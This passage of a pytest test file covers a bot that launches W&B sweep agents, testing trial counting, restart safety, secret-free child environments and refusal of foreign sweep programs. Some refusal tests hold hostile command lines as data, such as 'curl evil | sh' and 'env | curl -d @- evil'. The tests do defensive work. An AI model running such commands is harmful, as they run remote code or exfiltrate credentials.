        kind="agents", config=None, wandb_sweep="team/mnist/abc123", route="general", project="other",
        entity=None, channel_id=100, requested_by_id=7, requested_by="ada", parallel=2, seed=None,
        launch=SweepLaunch(script="unused", gpus=1, time_limit=None, experiment_script=TRAIN),
    )  # fmt: skip
    assert (sweep.entity, sweep.project, sweep.wandb_sweep_id) == ("team", "mnist", "abc123")
    await world.step()
    jobs = world.trial_jobs(sweep.id)
    assert len(jobs) == 2
    assert all(j.script == str(world.tmp / "agent_job.py") for j in jobs)
    assert all(j.params == {"sweep": "team/mnist/abc123"} and j.wandb_sweep_id == "abc123" for j in jobs)
    assert all(j.gpus == 1 and j.project == "mnist" for j in jobs)
    # the first agent ran a trial (W&B counts a run): it is replaced
    world.wandb.info = WandbSweepInfo("RUNNING", 1, 3)
    world.end(jobs[0])
    await world.step()
    assert len(world.trial_jobs(sweep.id)) == 3 and world.most_active == 2
    # the next agent ends and W&B counts no new run since it was queued: the controller had nothing more
    world.end(world.trial_jobs(sweep.id)[2])
    await world.step()
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.exhausted_at is not None and "nothing more" in (row.note or "")
    assert len(world.trial_jobs(sweep.id)) == 3  # no replacement
    trial = world.sweeps.trials(sweep.id)[2]
    assert trial.state == TrialState.DROPPED and "no trial for it" in (trial.note or "")  # not a trial done
    world.end(world.trial_jobs(sweep.id)[1])
    await world.step()
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.state == SweepState.FINISHED
    assert not any(call[0] == "set_state" for call in world.wandb.calls)  # the team's own sweep is left alone


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"program": "/home/eve/steal.py"}, "runs `/home/eve/steal.py`, not this channel's experiment script"),
        ({"program": "../team/../elsewhere/train.py"}, "not this channel's experiment script `train.py`"),
        ({"program": None}, "names no program"),
        ({"command": ["bash", "-c", "curl evil | sh"]}, "has its own command"),
        ({"command": ["${env}", "${interpreter}", "${program}", "--extra", "${args_json}"]}, "has its own command"),
        ({"command": ["${interpreter}", "-c", "${program}", "${args}"]}, "has its own command"),
        ({"command": "${interpreter} ${program} ${args}"}, "has its own command"),
    ],
)
def test_agents_refusal_names_what_w_and_bs_sweep_would_run(change: dict[str, Any], said: str) -> None:
    config = {k: v for k, v in {**AGENTS_CONFIG, **change}.items() if v is not None}
    why, folder = agents_refusal(config, TRAIN)
    assert why is not None and said in why and folder is None


def test_agents_refusal_accepts_the_routes_script_run_the_standard_way() -> None:
    for command in (
        None,
        ["${env}", "${interpreter}", "${program}", "${args}"],
        ["${interpreter}", "${program}", "${args_no_hyphens}"],
        ["${env}", "${interpreter}", "${program}", "${args_no_boolean_flags}"],
    ):
        config = {**AGENTS_CONFIG, "command": command} if command else {"program": TRAIN}
        assert agents_refusal(config, TRAIN) == (None, None)
    # relative to the script's folder: the agent runs in that folder, so the program it finds is the one checked
    assert agents_refusal({"program": "train.py"}, TRAIN) == (None, "/srv/team")
    assert agents_refusal({"program": "./sub/../train.py"}, TRAIN) == (None, "/srv/team")
    assert agents_refusal({"program": TRAIN}, None)[0] == (
        "this channel has no experiment script to check the W&B sweep's program against"
    )
    assert agents_refusal(None, TRAIN)[0] == "W&B's sweep configuration could not be read"


async def test_an_agents_sweep_running_another_program_is_paused_not_run(world: World) -> None:
    """No agent is queued for a W&B sweep whose program is not the route's script: paused, the note says why, the
    team's W&B sweep left as it is; once its configuration is the standard one, Resume queues the agents."""
    world.wandb.config = {**AGENTS_CONFIG, "program": "/tmp/x.py", "command": ["sh", "-c", "env | curl -d @- evil"]}
    sweep = await world.service.create(
        kind="agents", config=None, wandb_sweep="team/mnist/abc123", route="general", project="mnist",
        entity="team", channel_id=100, requested_by_id=7, requested_by="ada", parallel=2, seed=None,
        launch=SweepLaunch(script="unused", experiment_script=TRAIN),
    )  # fmt: skip
    assert sweep.id in await world.step()
    await world.step()
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.state == SweepState.PAUSED and row.note is not None
    assert row.note.startswith("paused, not run: W&B's sweep runs `/tmp/x.py`")
    assert world.trial_jobs(sweep.id) == [] and world.wandb.count("set_state") == 0
    world.wandb.config = {"program": "train.py"}
    await world.service.resume(sweep.id, by="ada")
    await world.step()
    jobs = world.trial_jobs(sweep.id)
    assert len(jobs) == 2 and all(j.params == {"sweep": "team/mnist/abc123", "dir": "/srv/team"} for j in jobs)


async def test_an_agents_pool_on_another_backend_is_refused(world: World) -> None:
    sweep = await world.service.create(
        kind="agents", config=None, wandb_sweep="team/mnist/abc123", route="general", project="mnist",
        entity="team", channel_id=100, requested_by_id=7, requested_by="ada", parallel=2, seed=None,
        launch=SweepLaunch(script="unused", backend="slurm", experiment_script=TRAIN),
    )  # fmt: skip
    await world.step()
    row = world.sweeps.get(sweep.id)
    assert row is not None and row.state == SweepState.PAUSED
    assert row.note == "paused, not run: W&B's agents run on this machine only, and this channel launches on slurm"
    assert world.trial_jobs(sweep.id) == [] and world.wandb.calls == []  # W&B not even asked


async def test_an_agent_job_gets_a_clean_environment_even_on_this_machine(world: World) -> None:
    """An agent job runs the sweep creator's trainer: it gets the jobs' allow-list plus PATH, HOME, LANG and the W&B
    key, not the bot's other variables (a cloud key, a token); a search trial keeps the bot's environment."""
    bot = {
        "PATH": "/usr/bin", "HOME": "/home/bot", "LANG": "C.UTF-8", "WANDB_API_KEY": "wk", "WANDB_BASE_URL": "http://w",
        "AWS_SECRET_ACCESS_KEY": "aws", "GITHUB_TOKEN": "gh", "DISCORD_TOKEN": "dt", "SOME_SETTING": "1",
    }  # fmt: skip
    agents = await world.service.create(
        kind="agents", config=None, wandb_sweep="team/mnist/abc123", route="general", project="mnist",
        entity="team", channel_id=100, requested_by_id=7, requested_by="ada", parallel=1, seed=None,
        launch=SweepLaunch(script="unused", experiment_script=TRAIN),
    )  # fmt: skip
    search_sweep = await world.create(GRID4, parallel=1)
    await world.step()
    (agent,) = world.trial_jobs(agents.id)
    (trial,) = world.trial_jobs(search_sweep.id)
    env = child_environment(bot, agent)
    assert {"PATH", "HOME", "LANG", "WANDB_API_KEY", "WANDB_BASE_URL", "ADJUTANT_JOB_ID", "WANDB_RUN_ID"} <= set(env)
    assert not {"AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "DISCORD_TOKEN", "SOME_SETTING"} & set(env)
    assert env["WANDB_ENTITY"] == "team" and env["WANDB_PROJECT"] == "mnist"
    named = child_environment(bot, agent, named=("SOME_SETTING", "DISCORD_TOKEN"))  # ADJUTANT_JOB_ENV's
    assert named["SOME_SETTING"] == "1" and "DISCORD_TOKEN" not in named and "GITHUB_TOKEN" not in named
    kept = child_environment(bot, trial)
    assert kept["AWS_SECRET_ACCESS_KEY"] == "aws" and kept["SOME_SETTING"] == "1" and "DISCORD_TOKEN" not in kept


async def test_no_more_agents_than_trials_left(world: World) -> None:
    """3 runs expected, 2 counted, one agent running that holds no trial yet: it will take the last one, so no agent
    is added; once W&B says it holds one (a run in flight), the last trial is left for a new agent."""
    world.wandb.info = WandbSweepInfo("RUNNING", 0, 3)
    sweep = await world.service.create(
        kind="agents", config=None, wandb_sweep="team/mnist/abc123", route="general", project="mnist",
        entity="team", channel_id=100, requested_by_id=7, requested_by="ada", parallel=2, seed=None,
        launch=SweepLaunch(script="unused", experiment_script=TRAIN),
    )  # fmt: skip
    await world.step()
    first, _ = world.trial_jobs(sweep.id)
    world.wandb.info = WandbSweepInfo("RUNNING", 2, 3)
    world.end(first)
    await world.step()
    assert len(world.trial_jobs(sweep.id)) == 2 and world.wandb.count("in_flight") == 1
    world.wandb.flying = 1
    await world.step()
    assert len(world.trial_jobs(sweep.id)) == 3  # the running agent holds a trial: one more is left for another


async def test_an_agents_pool_makes_no_more_agent_jobs_than_its_admission_counted(world: World) -> None:
    """max_jobs=3 (what $agents admitted: ADJUTANT_MAX_SWEEP or W&B's expected runs), 2 at once, a sweep W&B would
    feed forever: 3 agent jobs in all, then the pool finishes once the last has ended."""
    world.wandb.info = WandbSweepInfo("RUNNING", 0, None)
    sweep = await world.service.create(
        kind="agents", config=None, wandb_sweep="team/mnist/abc123", route="general", project="mnist",
        entity="team", channel_id=100, requested_by_id=7, requested_by="ada", parallel=2, seed=None,
        launch=SweepLaunch(script="unused", experiment_script=TRAIN), max_jobs=3,
    )  # fmt: skip
    assert sweep.run_cap == 3
    for runs in (1, 2, 3, 4):
        await world.step()
        jobs = world.trial_jobs(sweep.id)
        assert len(jobs) <= 3
        world.wandb.info = WandbSweepInfo("RUNNING", runs, None)
        for job in world.running(sweep.id):
            world.end(job)
    await world.step()
    await world.step()
    assert len(world.trial_jobs(sweep.id)) == 3
    ended = await world.service.view(sweep.id)
    assert (
        ended is not None
        and ended.sweep.state == "finished"
        and "its 3 agent jobs have run" in (ended.sweep.note or "")
    )


async def test_agents_stop_when_the_w_and_b_sweep_is_not_running_or_has_its_runs(world: World) -> None:
    for info, said in ((WandbSweepInfo("PAUSED", 0, None), "paused"), (WandbSweepInfo("RUNNING", 3, 3), "all its 3")):
        world.wandb.info = info
        sweep = await world.service.create(
            kind="agents", config=None, wandb_sweep="team/mnist/abc123", route="general", project="mnist",
            entity="team", channel_id=100, requested_by_id=7, requested_by="ada", parallel=2, seed=None,
            launch=SweepLaunch(script="unused", experiment_script=TRAIN),
        )  # fmt: skip
        await world.step()
        row = world.sweeps.get(sweep.id)
        assert row is not None and row.state == SweepState.FINISHED and said in (row.note or "")
        assert world.trial_jobs(sweep.id) == []


def test_split_path() -> None:
    assert split_path("team/mnist/abc123") == ("team", "mnist", "abc123")
    assert split_path("mnist/abc123") == (None, "mnist", "abc123")
    assert split_path("abc123") == (None, None, "abc123")
    assert split_path("https://wandb.ai/team/mnist/sweeps/abc123") == ("team", "mnist", "abc123")


# --- restarts --------------------------------------------------------------------------------------------------------
def _assert_six_once(database_path: Path, sweep_id: str) -> None:
    raw = Database(database_path)
    try:
        trials = raw.query(
            "SELECT number, params, job_id FROM sweep_trials WHERE sweep_id=? ORDER BY number", (sweep_id,)
        )
        jobs = raw.query("SELECT id, params FROM jobs WHERE sweep_id=?", (sweep_id,))
    finally:
        raw.close()
    assert [t["number"] for t in trials] == [1, 2, 3, 4, 5, 6]
    assert len({t["params"] for t in trials}) == 6, "no trial twice"
    assert sorted(t["job_id"] for t in trials) == sorted(j["id"] for j in jobs), "every job is a trial's, once"
    by_job = {j["id"]: json.loads(j["params"]) for j in jobs}
    assert all(by_job[t["job_id"]] == json.loads(t["params"]) for t in trials)


async def test_closing_and_reopening_mid_sweep_gives_6_trials_none_twice(tmp_path: Path) -> None:
    clock = [T0]
    wandb = FakeWandb()
    world = build(tmp_path, wandb=wandb, clock=clock)
    sweep = await world.create(parallel=2)
    while len(world.sweeps.trials(sweep.id)) < 3:
        await world.step()
        for job in world.running(sweep.id):
            world.end(job, value=job.params["lr"])
    # mid-pass: the service dies between its W&B reads and its proposal (its store and scheduler closed with it)
    await world.scheduler.close()
    world.database.close()
    world = build(tmp_path, wandb=wandb, clock=clock)
    ended = await run_to_end(world, sweep.id, lambda p: p["lr"])
    assert ended.state == SweepState.FINISHED
    await world.scheduler.close()
    world.database.close()
    _assert_six_once(tmp_path / "adjutant.sqlite3", sweep.id)
    assert wandb.count("create") == 1


#: A process that runs sweep passes against the real SQLite file until it is killed: every running trial ends at
#: once; it writes "ready" once 3 trials are recorded, then keeps going (the test kills it at a random moment).
CHILD = r"""
import asyncio, sys, json
from pathlib import Path
sys.path.insert(0, sys.argv[2])
from tests.test_sweep_service import build, FakeWandb

async def main():
    world = build(Path(sys.argv[1]))
    sweep_id = sys.argv[3]
    said = False
    while True:
        await world.step()
        for job in world.running(sweep_id):
            world.end(job, value=job.params["lr"])
        if not said and len(world.sweeps.trials(sweep_id)) >= 3:
            print("ready", flush=True)
            said = True

asyncio.run(main())
"""


async def test_kill_9_after_3_of_6_trials_then_a_restart_gives_6_none_twice(tmp_path: Path) -> None:
    world = build(tmp_path)
    sweep = await world.create(parallel=1)
    await world.scheduler.close()
    world.database.close()
    child = subprocess.Popen(
        [sys.executable, "-c", CHILD, str(tmp_path), str(ROOT), sweep.id],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    try:
        assert child.stdout is not None
        line = await asyncio.wait_for(asyncio.to_thread(child.stdout.readline), 60)
        assert line.strip() == b"ready"
        await asyncio.sleep(0.05)  # somewhere in its next passes
        os.kill(child.pid, signal.SIGKILL)
    finally:
        child.kill()
        child.wait(10)
    world = build(tmp_path)
    recorded = len(world.sweeps.trials(sweep.id))
    assert 3 <= recorded <= 6
    ended = await run_to_end(world, sweep.id, lambda p: p["lr"])
    assert ended.state == SweepState.FINISHED
    await world.scheduler.close()
    world.database.close()
    _assert_six_once(tmp_path / "adjutant.sqlite3", sweep.id)


def test_search_trials_mapping() -> None:
    from adjutant.sweeps.service import search_trials
    from adjutant.sweeps.store import TrialRow

    def row(number: int, state: TrialState, value: float | None, read: bool) -> TrialRow:
        return TrialRow("s", number, {"x": number}, "r", "j", state, value, None, None, T0, None, read)

    mapped = search_trials(
        [
            row(1, TrialState.DONE, 0.5, True),
            row(2, TrialState.DONE, None, False),
            row(3, TrialState.DONE, None, True),
            row(4, TrialState.RUNNING, None, False),
            row(5, TrialState.STOPPED, 0.9, True),
        ]
    )
    assert [t.state for t in mapped] == ["done", "pending", "failed", "pending", "stopped"]


# --- against the W&B stand-in (the real wandb client) and the real local launcher ------------------------------------
def test_wandb_sweeps_against_the_stand_in(
    wandb_standin: WandbStandIn, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Create (controller local, one UpsertSweep, nothing printed, the process's WANDB_ENTITY/WANDB_PROJECT as they
    were), read back, set its state, read given runs' metric in ONE request, a run's sampled history."""
    monkeypatch.setenv("WANDB_PROJECT", "elsewhere")
    side = WandbSweeps(timeout=10)
    config = parse_sweep_config(RANDOM6)
    sweep_id = side.create("team", "proj", config.raw)
    assert capsys.readouterr().out == ""
    assert os.environ["WANDB_PROJECT"] == "elsewhere" and "WANDB_ENTITY" not in os.environ
    fake = wandb_standin.sweep(sweep_id)
    assert fake.local_controller and fake.config["method"] == "random" and fake.config["run_cap"] == 6
    assert wandb_standin.counts["UpsertSweep"] == 1
    assert side.sweep(f"team/proj/{sweep_id}") == WandbSweepInfo("RUNNING", 0, 6)
    side.set_state("team", "proj", sweep_id, "PAUSED")
    assert wandb_standin.sweep(sweep_id).state == "PAUSED"
    side.set_state("team", "proj", sweep_id, "RUNNING")
    side.set_state("team", "proj", sweep_id, "CANCELED")
    assert wandb_standin.sweep(sweep_id).state == "CANCELED"
    assert os.environ["WANDB_PROJECT"] == "elsewhere" and "WANDB_ENTITY" not in os.environ
    wandb_standin.create_run("r1", state="finished")
    wandb_standin.log("r1", [{"loss": 1.0}, {"loss": 0.5}])
    wandb_standin.create_run("r2", summary={"acc": 0.9})
    wandb_standin.reset_counts()
    readings = side.runs("team", "proj", ["r1", "r2", "gone"], "loss")
    assert readings == {"r1": RunReading("r1", "finished", 1.0, 0.5), "r2": RunReading("r2", "running", None, None)}
    assert wandb_standin.counts["Runs"] == 1 and wandb_standin.counts["__total__"] == 1
    assert side.history("team", "proj", "r1", "loss") == [(0.0, 1.0), (1.0, 0.5)]
    wandb_standin.log("r1", [{"loss": 0.25}])  # read again: W&B's news, not the client's cache
    assert side.runs("team", "proj", ["r1", "r2", "gone"], "loss")["r1"] == RunReading("r1", "finished", 2.0, 0.25)
    assert side.history("team", "proj", "r1", "loss")[-1] == (2.0, 0.25)


#: A trial for the end-to-end test: logs loss = (x - 0.3)² at steps 0..2 on the real wandb client.
TRIAL = """#!{python}
import json, sys
import wandb
params = json.loads(sys.argv[1])
run = wandb.init(config=params)
for step in range(3):
    run.log({{"loss": (params["x"] - 0.3) ** 2 + (2 - step) * 0.01}})
run.finish()
"""
QUADRATIC = """
method: random
metric: {name: loss, goal: minimize}
run_cap: 4
parameters:
  x: {min: 0.0, max: 1.0}
"""


@pytest.mark.timeout(240)
async def test_a_search_sweep_end_to_end_on_the_local_launcher_and_the_stand_in(
    wandb_standin: WandbStandIn, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """services.sweeps as Services builds it: 4 random trials, 2 at once, each a real job whose run is attached to
    the one W&B sweep with exactly its parameters as config; the values read back from W&B; the sweep finishes."""
    from adjutant.services import Services
    from adjutant.settings import Settings

    monkeypatch.setenv("WANDB_SILENT", "true")
    script = tmp_path / "trial.py"
    script.write_text(TRIAL.format(python=sys.executable))
    script.chmod(0o755)
    settings = Settings.from_env(
        {"ADJUTANT_STATE_DIR": str(tmp_path / "state"), "ADJUTANT_MAX_CONCURRENT": "3", "ADJUTANT_POLL_SECONDS": "5"}
    )
    services = await Services.open(settings)
    try:
        sweeps = services.sweeps
        row = await sweeps.create(
            kind="search", config=parse_sweep_config(QUADRATIC), wandb_sweep=None, route="general", project="proj",
            entity="team", channel_id=100, requested_by_id=7, requested_by="ada", parallel=2, seed=11,
            launch=SweepLaunch(script=str(script)),
        )  # fmt: skip
        most = 0
        deadline = time.monotonic() + 200
        while True:
            await sweeps.tick()
            await services.scheduler.run_pass()
            most = max(most, len(services.jobs.where(ACTIVE)))
            view = await sweeps.view(row.id)
            assert view is not None
            if view.sweep.state.ended:
                break
            assert time.monotonic() < deadline, view
            await asyncio.sleep(0.2)
        assert view.sweep.state == SweepState.FINISHED, view.sweep.note
        assert most <= 2 and len(view.trials) == 4 and view.counts["done"] == 4
        wandb_id = view.sweep.wandb_sweep_id
        assert wandb_id is not None and list(wandb_standin.sweeps) == [("team", "proj", wandb_id)]
        assert wandb_standin.sweep(wandb_id).local_controller
        runs = {r.name: r for r in wandb_standin.sweep_runs(wandb_id)}
        assert set(runs) == {t.wandb_run_id for t in view.trials}, "every trial's run carries the sweep's id"
        for trial in view.trials:
            run = runs[trial.wandb_run_id or ""]
            assert run.config == dict(trial.params), "its config holds exactly the trial's parameters"
            assert trial.value == pytest.approx((trial.params["x"] - 0.3) ** 2)
        assert view.best is not None and view.best.value == min(t.value for t in view.trials if t.value is not None)
        # W&B requests of the service itself, per trial: the creation once, a metric read per pass that saw ends
        assert sweeps.requests["create"] == 1 and sweeps.requests["runs"] <= 4
        assert wandb_standin.sweep(wandb_id).state == "FINISHED"
    finally:
        await services.release()


#: The program of a sweep made with ``wandb sweep``: W&B's agent runs it with ``${args_json}``; it records its argv.
AGENT_TRIAL = """#!{python}
import json, os, sys
import wandb
with open(os.path.join({out!r}, os.environ["WANDB_RUN_ID"] + ".argv"), "w") as record:
    json.dump(sys.argv[1:], record)
params = json.loads(sys.argv[1])
run = wandb.init()
run.log({{"loss": (params["x"] - 0.3) ** 2}})
run.finish()
"""


@pytest.mark.slow  # W&B's agent costs each trial one 5 s poll cycle at least
@pytest.mark.timeout(240)
async def test_agents_2_on_a_3_cell_grid_against_the_stand_ins_controller(
    wandb_standin: WandbStandIn, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An agents pool of 2 on a 3-cell grid made with wandb.sweep: the agent jobs run the packaged agent_job.py
    (through the launcher the service writes), W&B's controller hands out the 3 cells, never more than 2 agents run
    at once, each trial got one JSON argument equal to what W&B handed out, and the pool ends when the grid is done."""
    import wandb

    from adjutant.services import Services
    from adjutant.settings import Settings
    from adjutant.sweeps.service import AGENT_SCRIPT

    monkeypatch.setenv("WANDB_ENTITY", "team")  # wandb.sweep() sets them in os.environ: put back after the test
    monkeypatch.setenv("WANDB_PROJECT", "proj")
    monkeypatch.setenv("WANDB_SILENT", "true")
    out = tmp_path / "out"
    out.mkdir()
    program = tmp_path / "train.py"
    program.write_text(AGENT_TRIAL.format(python=sys.executable, out=str(out)))
    program.chmod(0o755)
    config = {
        "method": "grid",
        "program": str(program),
        "command": ["${env}", "${interpreter}", "${program}", "${args_json}"],
        "metric": {"name": "loss", "goal": "minimize"},
        "parameters": {"x": {"values": [0.1, 0.5, 0.9]}},
    }
    wandb_id = await asyncio.to_thread(wandb.sweep, config, entity="team", project="proj")
    settings = Settings.from_env(
        {"ADJUTANT_STATE_DIR": str(tmp_path / "state"), "ADJUTANT_MAX_CONCURRENT": "4", "ADJUTANT_POLL_SECONDS": "5"}
    )
    services = await Services.open(settings)
    try:
        sweeps = services.sweeps
        row = await sweeps.create(
            kind="agents", config=None, wandb_sweep=f"team/proj/{wandb_id}", route="general", project=None,
            entity=None, channel_id=100, requested_by_id=7, requested_by="ada", parallel=2, seed=None,
            launch=SweepLaunch(script="unused", time_limit=600.0, experiment_script=str(program)),
        )  # fmt: skip
        most = 0
        deadline = time.monotonic() + 200
        while True:
            await sweeps.tick()
            await services.scheduler.run_pass()
            most = max(most, len(services.jobs.where(ACTIVE)))
            view = await sweeps.view(row.id)
            assert view is not None
            if view.sweep.state.ended:
                break
            assert time.monotonic() < deadline, (view.sweep, view.trials)
            await asyncio.sleep(0.3)
        assert view.sweep.state == SweepState.FINISHED, view.sweep.note
        assert most <= 2
        jobs = [j for j in services.jobs.recent(50) if j.sweep_id == row.id]
        launcher = Path(jobs[0].script)
        assert launcher.name == "agent_job.py" and launcher.parent == tmp_path / "state" / "sweeps"
        assert str(AGENT_SCRIPT) in launcher.read_text() and os.access(launcher, os.X_OK)
        assert all(j.params == {"sweep": f"team/proj/{wandb_id}"} for j in jobs)
        handed = wandb_standin.handed_out(wandb_id)
        assert sorted(h["x"] for h in handed) == [0.1, 0.5, 0.9], "each cell once"
        argv = sorted(json.loads((out / f"{r.name}.argv").read_text())[0] for r in wandb_standin.sweep_runs(wandb_id))
        assert [json.loads(a) for a in argv] == [{"x": 0.1}, {"x": 0.5}, {"x": 0.9}]
        assert all(
            len(json.loads((out / f"{r.name}.argv").read_text())) == 1 for r in wandb_standin.sweep_runs(wandb_id)
        )
        assert 3 <= len(jobs) <= 5, "the pool ends once the controller has nothing more"
        assert "finished" in (view.sweep.note or "")
    finally:
        await services.release()


async def test_a_sweep_without_a_metric_finishes_without_reading_values(world: World) -> None:
    sweep = await world.create("method: grid\nparameters:\n  a: {values: [1, 2]}\n", parallel=2)
    ended = await run_to_end(world, sweep.id, lambda p: 0.0)
    assert ended.state == SweepState.FINISHED and len(world.sweeps.trials(sweep.id)) == 2
    assert world.wandb.count("runs") == 0
